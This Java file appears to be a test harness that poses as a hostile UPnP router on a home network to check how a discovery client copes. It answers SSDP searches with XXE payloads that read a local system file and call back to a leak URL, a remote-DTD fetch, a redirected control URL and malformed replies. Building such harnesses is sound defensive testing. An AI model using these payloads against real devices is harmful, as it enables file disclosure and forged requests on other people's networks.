package app.gatehouse.reach.router;

import com.sun.net.httpserver.HttpServer;
import java.net.DatagramPacket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.MulticastSocket;
import java.net.NetworkInterface;
import java.nio.charset.StandardCharsets;

/**
 * A device on the home's network that answers every search for a router and means ill. Prints what
 * is fetched from it. Arguments: its address, and what it does: {@code xxe}, {@code dtd}, {@code
 * elsewhere}, {@code garbage} or {@code router} (poses as one).
 */
public final class RogueProgram {
  private static final int PORT = 7777;
  private static final String ROUTER =
      """
      <?xml version="1.0"?><root xmlns="urn:schemas-upnp-org:device-1-0"><device>
      <friendlyName>%s</friendlyName><serviceList><service>
      <serviceType>urn:schemas-upnp-org:service:WANIPConnection:1</serviceType>
      <controlURL>%s</controlURL></service></serviceList></device></root>
      """;

  private RogueProgram() {}

  public static void main(String[] arguments) throws Exception {
    var address = InetAddress.ofLiteral(arguments[0]);
    var habit = arguments[1];
    var server = HttpServer.create(new InetSocketAddress(address, PORT), 5);
    server.createContext(
        "/",
        exchange -> {
          System.out.println("asked for " + exchange.getRequestURI());
          var body = document(habit, arguments[0]).getBytes(StandardCharsets.UTF_8);
          exchange.sendResponseHeaders(200, body.length);
          exchange.getResponseBody().write(body);
          exchange.close();
        });
    server.start();
    answerSearches(address, habit);
  }

  private static String document(String habit, String address) {
    var here = "http://" + address + ":" + PORT;
    return switch (habit) {
      case "xxe" ->
          "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/debian_version\">"
              + "<!ENTITY y SYSTEM \""
              + here
              + "/leak\">]>"
              + ROUTER.formatted("&x;&y;", "/control").replace("<?xml version=\"1.0\"?>", "");
      case "dtd" ->
          "<?xml version=\"1.0\"?><!DOCTYPE root SYSTEM \""
              + here
              + "/leak.dtd\">"
              + ROUTER.formatted("dtd", "/control").replace("<?xml version=\"1.0\"?>", "");
      case "elsewhere" -> ROUTER.formatted("elsewhere", "http://192.168.77.2:9999/control");
      default -> ROUTER.formatted("rogue", "/control");
    };
  }

  private static void answerSearches(InetAddress address, String habit) throws Exception {
    try (var socket = new MulticastSocket(null)) {
      socket.setReuseAddress(true);
      socket.bind(new InetSocketAddress(1900));
      var network = NetworkInterface.getByInetAddress(address);
      socket.joinGroup(new InetSocketAddress("239.255.255.250", 1900), network);
      try (var sender = new java.net.DatagramSocket(new InetSocketAddress(address, 0))) {
        System.out.println("ready");
        var packet = new DatagramPacket(new byte[2048], 2048);
        while (true) {
          packet.setLength(2048);
          socket.receive(packet);
          var question =
              new String(packet.getData(), 0, packet.getLength(), StandardCharsets.US_ASCII);
          if (question.startsWith("M-SEARCH")) {
            var answer = answer(habit, question, address).getBytes(StandardCharsets.UTF_8);
            sender.send(new DatagramPacket(answer, answer.length, packet.getSocketAddress()));
          }
        }
      }
    }
  }

  private static String answer(String habit, String question, InetAddress address) {
    if (habit.equals("garbage")) {
      return "HTTP/1.1 200 OK\r\nno colon here\r\n\u0000\r\n\r\n";
    }
    var target = question.lines().filter(line -> line.startsWith("ST:")).findFirst().orElseThrow();
    return "HTTP/1.1 200 OK\r\n"
        + target
        + "\r\nLOCATION: http://"
        + address.getHostAddress()
        + ":"
        + PORT
        + "/d.xml\r\nUSN: x\r\n\r\n";
  }
}
